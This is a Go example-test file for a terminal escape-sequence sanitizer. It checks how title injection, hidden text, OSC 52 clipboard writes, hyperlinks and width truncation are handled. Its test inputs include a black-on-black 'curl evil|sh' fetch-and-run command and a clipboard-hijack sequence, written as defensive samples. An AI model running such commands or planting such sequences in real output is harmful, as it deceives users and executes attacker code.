package term_test

import (
	"fmt"
	"os"

	"github.com/plainsight-dev/plainsight/term"
)

func ExampleSanitizer() {
	var s term.Sanitizer // Strip mode, colours kept
	out := s.Push("\x1b[31mFAIL\x1b[0m\x1b]0;pwn")
	out += s.Push("ed\a tests\r\x1b[2K")
	out += s.Push("\x1b[8mhidden?\x1b")
	out += s.Finish()
	fmt.Printf("%+q\n", out)
	// Output:
	// "\x1b[31mFAIL\x1b[0m testshidden?"
}

func ExampleSanitizer_hidingColours() {
	var s term.Sanitizer
	// Black on black hides "curl evil|sh"; black on green is a badge.
	out := s.Push("\x1b[30;40mcurl evil|sh\x1b[0m \x1b[30;42m PASS \x1b[0m")
	out += s.Finish()
	fmt.Printf("%+q\n", out)
	// Output:
	// "\x1b[30;40m\x1b[39;49mcurl evil|sh\x1b[0m \x1b[30;42m PASS \x1b[0m"
}

func ExampleSanitizer_visualize() {
	s := term.New(term.Options{Mode: term.Visualize, Plain: true})
	out := s.Push("notice\x1b[1A\x1b]8;;https://example.invalid\x1b\\open\x1b]8;;\x1b\\\rPASS\n")
	out += s.Finish()
	fmt.Printf("%+q\n", out)
	// Output:
	// "notice\u241b\u241bopen\u241b\u241bPASS\n"
}

func ExampleNewWriter() {
	w := term.NewWriter(os.Stdout, term.Options{Plain: true})
	fmt.Fprint(w, "build: \x1b[31mFAIL\x1b[0m\n")
	fmt.Fprint(w, "\x1b[?1049h\x1b[Hdone\r\n")
	w.Close() // settles a sequence left open; does not close os.Stdout
	// Output:
	// build: FAIL
	// done
}

func ExampleTitle() {
	fmt.Printf("%+q\n", term.Title("fix \x1b]52;c;ZXZpbA==\abug\a in parser\u202e"))
	// Output:
	// "\x1b]2;fix bug in parser\x1b\\"
}

func ExampleHyperlink() {
	fmt.Printf("%+q\n", term.Hyperlink("https://example.com/\x07docs", "the \x1b[1mdocs\x1b[0m"))
	// Output:
	// "\x1b]8;;https://example.com/docs\x1b\\the docs\x1b]8;;\x1b\\"
}

func ExampleCell() {
	for _, s := range []string{"ok", "\x1b[32mpassed with warnings\x1b[0m", "\u4e16\u754c\u4e16\u754c\u4e16\u754c"} {
		c := term.Cell(s, 8)
		fmt.Printf("%+q width %d\n", c, term.Width(c))
	}
	// Output:
	// "ok" width 2
	// "\x1b[32mpassed \u2026\x1b[0m" width 8
	// "\u4e16\u754c\u4e16\u2026" width 7
}
